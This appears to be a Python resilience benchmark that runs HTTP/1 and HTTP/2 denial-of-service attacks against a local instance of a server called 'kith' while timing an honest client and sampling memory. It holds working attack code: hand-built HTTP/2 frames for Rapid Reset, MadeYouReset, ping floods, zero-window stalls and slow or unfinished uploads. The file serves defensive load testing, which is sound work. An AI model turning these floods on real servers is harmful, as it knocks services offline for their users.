"""Attacks over HTTP, each on a fresh server, with an honest client before, during and after: its p50, p99 and errors, and the
parent's memory. The attackers are processes of the same machine: they share the cores with the server.
"""
import json
import multiprocessing
import os
import pathlib
import resource
import select
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

from harness import BUILD, Kith, png, remove, until

HERE = pathlib.Path(__file__).resolve().parent
PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW = 0, 1, 3, 4, 6, 8
PHOTO_BYTES = 600_000
fork = multiprocessing.get_context('fork')


# --- frames of HTTP/2 ---

def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload


def literal(name, value):
    def text(t):
        size, head = len(t), b''
        if size < 127:
            return bytes([size]) + t.encode()
        size, head = size - 127, b'\x7f'
        while size >= 128:
            head, size = head + bytes([size % 128 + 128]), size // 128
        return head + bytes([size]) + t.encode()
    return b'\x00' + text(name) + text(value)


def headers(target, method='GET', **more):
    lines = {':path': target, ':authority': '127.0.0.1', **{k.replace('_', '-'): v for k, v in more.items()}}
    return (b'\x82' if method == 'GET' else b'\x83') + b'\x86' + b''.join(literal(k, v) for k, v in lines.items())


def ask(stream, target, method='GET', end=True, **more):
    return frame(HEADERS, 4 | end, stream, headers(target, method, **more))


def connect(address, http2=True, window=None, source=None):
    host, port = address.rsplit(':', 1)
    client = socket.create_connection((host, int(port)), timeout=5, source_address=(source, 0) if source else None)
    if http2:
        client.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack('>HI', 4, window) if window is not None else b''))
    return client


def is_open(client):
    """Reads what has come."""
    client.setblocking(False)
    try:
        while client.recv(65536):
            pass
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        client.settimeout(5)


def wait(until_s):
    select.select([], [], [], max(0, min(until_s - time.monotonic(), 0.5)))


# --- attacks: each runs in a process of its own until `end` ---

def flood(make):
    """Frames without end on connections that are opened again when they are cut."""
    def attack(address, end):
        while time.monotonic() < end:
            try:
                client, n = connect(address), 0
                while time.monotonic() < end and is_open(client):
                    client.sendall(make(n))
                    n += 1
            except OSError:
                pass
    return attack


def streams(n, count, one):
    return b''.join(one(1 + 2 * (n * count + k)) for k in range(count))


def reset_of(target):
    return flood(lambda n: streams(n, 50, lambda s: ask(s, target) + frame(RESET, 0, s, struct.pack('>I', 8))))


def made_reset_of(target):
    """MadeYouReset: a window update of 0 makes the server reset the stream."""
    return flood(lambda n: streams(n, 50, lambda s: ask(s, target) + frame(WINDOW, 0, s, struct.pack('>I', 0))))


def held(count, begin, keep=None, every_s=0.5):
    """Connections that stay open; those that are cut are opened again. `keep(client, n)`: what each sends now and then."""
    def attack(address, end):
        clients, n = [], 0
        while time.monotonic() < end:
            while len(clients) < count and time.monotonic() < end:
                try:
                    clients.append(begin(address, len(clients)))
                except OSError:
                    break
            n += 1
            for client in list(clients):
                try:
                    if keep:
                        keep(client, n)
                except OSError:
                    clients.remove(client)
            wait(min(end, time.monotonic() + every_s))
    return attack


def begin_idle(address, n):
    return connect(address, http2=False, source=f'127.0.{1 + n // 900}.5')


def begin_unread(window):
    def begin(address, _n):
        client = connect(address, window=window)
        client.sendall(b''.join(ask(1 + 2 * k, '/v1/images/1/photo') for k in range(100)))
        return client
    return begin


def begin_unread_http1(address, _n):
    client = connect(address, http2=False)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    client.sendall(b'GET /v1/images/1/photo HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n' * 100)
    return client


def begin_upload(length):
    def begin(address, _n):
        client = connect(address, http2=False)
        client.sendall(b'POST /v1/identify HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: image/png\r\ncontent-length: %d\r\n\r\n'
                       % length)
        return client
    return begin


def keep_uploading(client, _n):
    """As much as is taken, but never the end."""
    client.setblocking(False)
    try:
        client.send(b'\0' * 65536)
    except BlockingIOError:
        pass
    finally:
        client.settimeout(5)


def unfinished_http2(address, end):
    """Bodies of 100 streams as far as flow control lets them, and no end of any."""
    while time.monotonic() < end:
        try:
            client, window, sent = connect(address, window=1 << 20), 65535, {}
            sent = {1 + 2 * k: 0 for k in range(100)}
            client.sendall(b''.join(ask(s, '/v1/identify', 'POST', end=False, content_type='image/jpeg') for s in sent))
            buffer = b''
            while time.monotonic() < end:
                moved = False
                for stream in sent:
                    if window >= 16384 and sent[stream] < 15 << 20:
                        client.sendall(frame(DATA, 0, stream, b'x' * 16384))
                        sent[stream] += 16384
                        window, moved = window - 16384, True
                if not select.select([client], [], [], 0 if moved else 0.1)[0]:
                    continue
                more = client.recv(1 << 20)
                if not more:
                    break
                buffer += more
                while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], 'big'):
                    size, stream = int.from_bytes(buffer[:3], 'big'), int.from_bytes(buffer[5:9], 'big')
                    if buffer[3] == WINDOW and stream == 0:
                        window += int.from_bytes(buffer[9:13], 'big')
                    buffer = buffer[9 + size:]
        except OSError:
            pass


def trickle_http2(address, n):
    client = connect(address)
    client.sendall(b''.join(ask(1 + 2 * k, '/v1/identify', 'POST', end=False, content_type='image/jpeg') for k in range(50)))
    return client


def begin_stream(address, _n):
    client = connect(address, http2=False)
    client.sendall(b'GET /v1/events HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n')
    return client


def keep_window(client, _n):
    client.sendall(b''.join(frame(WINDOW, 0, 1 + 2 * k, struct.pack('>I', 1)) for k in range(100)))


LIST, THUMBNAIL = '/v1/images?limit=500', '/v1/images/1/photo?width=300'
KEYED = {'auth': 'keys', 'keys_poll': '50ms'}
ATTACKS = {  # name: (processes, attack, settings)
    'nothing': (0, None, {}),
    'rapid reset of streams': (2, reset_of('/v1/events'), {}),
    'rapid reset of a list': (2, reset_of(LIST), {}),
    'rapid reset of a thumbnail': (2, reset_of(THUMBNAIL), {}),
    'rapid reset without a key': (2, reset_of(LIST), KEYED),
    'MadeYouReset of a list': (2, made_reset_of(LIST), {}),
    'ping flood': (2, flood(lambda n: frame(PING, 0, 0, b'12345678') * 500), {}),
    '10,000 idle connections': (1, held(10_000, begin_idle), {}),
    'windows of zero': (1, held(50, begin_unread(0)), {}),
    'windows that grow by a byte': (1, held(30, begin_unread(0), keep_window), {}),
    'unread answers, HTTP/1': (1, held(200, begin_unread_http1), {}),
    'unfinished bodies, HTTP/1': (1, held(200, begin_upload(15 << 20), keep_uploading, 0.02), {}),
    'unfinished bodies, HTTP/2': (2, unfinished_http2, {}),
    'unfinished bodies without a key, HTTP/1': (1, held(200, begin_upload(15 << 20), keep_uploading, 0.02), KEYED),
    'unfinished bodies without a key, HTTP/2': (2, unfinished_http2, KEYED),
    'trickled uploads, HTTP/1': (1, held(500, begin_upload(1 << 20), lambda c, n: c.sendall(b'\0' * (1 + n % 2))), {}),
    'trickled uploads, HTTP/2': (1, held(50, trickle_http2, lambda c, n: c.sendall(frame(DATA, 0, 1, b'x'))), {}),
    'event streams of one address': (1, held(400, begin_stream), {}),
}


# --- measuring ---

class Memory(threading.Thread):
    """The resident memory of a process, sampled: its peak since the last reset, in MB."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid, self.peak, self.ended = pid, 0, threading.Event()
        self.start()

    def now(self):
        try:
            for line in open(f'/proc/{self.pid}/status'):
                if line.startswith('VmRSS'):
                    return int(line.split()[1]) / 1024
        except FileNotFoundError:
            pass
        return 0

    def run(self):
        while not self.ended.wait(0.1):
            self.peak = max(self.peak, self.now())


def honest(kith, seconds, image, key):
    return subprocess.Popen([sys.executable, HERE / 'honest.py', kith.api, str(seconds), image, *([key] if key else [])],
                            stdout=subprocess.PIPE, text=True)


def told(process):
    return json.loads(process.communicate()[0])


def server(folder, settings):
    has_dlib = (BUILD / 'plugins/dlib.so').exists()
    kith = Kith(folder, recognizer='dlib' if has_dlib else 'example', **settings).start(ready=False)
    key = kith.run('key', 'create', '--role', 'admin').stdout.strip() if settings.get('auth') else ''
    given = {'x_api_key': key} if key else {}
    until(lambda: kith.get('/readyz').status == 200, 'kith to be ready')
    until(lambda: kith.get('/v1/images', **given).status == 200, 'the key')
    photo = kith.images / 'photo.png'
    photo.write_bytes(png(200, 100, 50, width=300, height=200) + os.urandom(PHOTO_BYTES))
    kith.post('/v1/images', {'path': str(photo)}, **given)
    until(lambda: kith.get('/v1/images/1', **given).json['finished_at'], 'the image')
    return kith, key


def measure(figure, name, times_s):
    processes, attack, settings = ATTACKS[name]
    folder = tempfile.mkdtemp(prefix='kith-bench-')
    kith, key = server(folder, settings)
    memory, small = Memory(kith.process.pid), pathlib.Path(folder, 'small.png')
    small.write_bytes(png(1, 2, 3))
    try:
        before = told(honest(kith, times_s[0], small, key))
        rss, memory.peak = memory.now(), 0
        end = time.monotonic() + times_s[1]
        attackers = [fork.Process(target=attack, args=(kith.api, end), daemon=True) for _ in range(processes)]
        for process in attackers:
            process.start()
        during = told(honest(kith, times_s[1], small, key))
        for process in attackers:
            process.join(30)
            process.kill()
        peak = memory.peak
        after = told(honest(kith, times_s[2], small, key))
        limit = round(2 * (before['p99'] or 0) + 50, 1)
        for when, got in (('before', before), ('during', during), ('after', after)):
            print(f'  {name}, {when}: {got}', flush=True)
        figure(f'{name}: p99 before', before['p99'] or -1, 'ms')
        figure(f'{name}: p99 during', during['p99'] or 1e9, 'ms', at_most=limit)
        figure(f'{name}: errors during', sum(during['errors'].values()), '', at_most=0)
        figure(f'{name}: first answer after', after['first_s'] if after['first_s'] is not None else 1e9, 's', at_most=1)
        figure(f'{name}: p99 after', after['p99'] or 1e9, 'ms', at_most=limit)
        figure(f'{name}: memory before', rss, 'MB')
        figure(f'{name}: memory, peak during', peak, 'MB', at_most=300)
        figure(f'{name}: memory after', memory.now(), 'MB')
        assert kith.process.poll() is None, kith.log()[-2000:]
    finally:
        memory.ended.set()
        memory.join()
        kith.stop()
        remove(folder)


def run(figure, quick):
    """KITH_ATTACKS: a part of the names that are wanted."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    try:
        for name in ATTACKS:
            if os.environ.get('KITH_ATTACKS', '') in name:
                measure(figure, name, (2, 4, 2) if quick else (5, 20, 5))
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
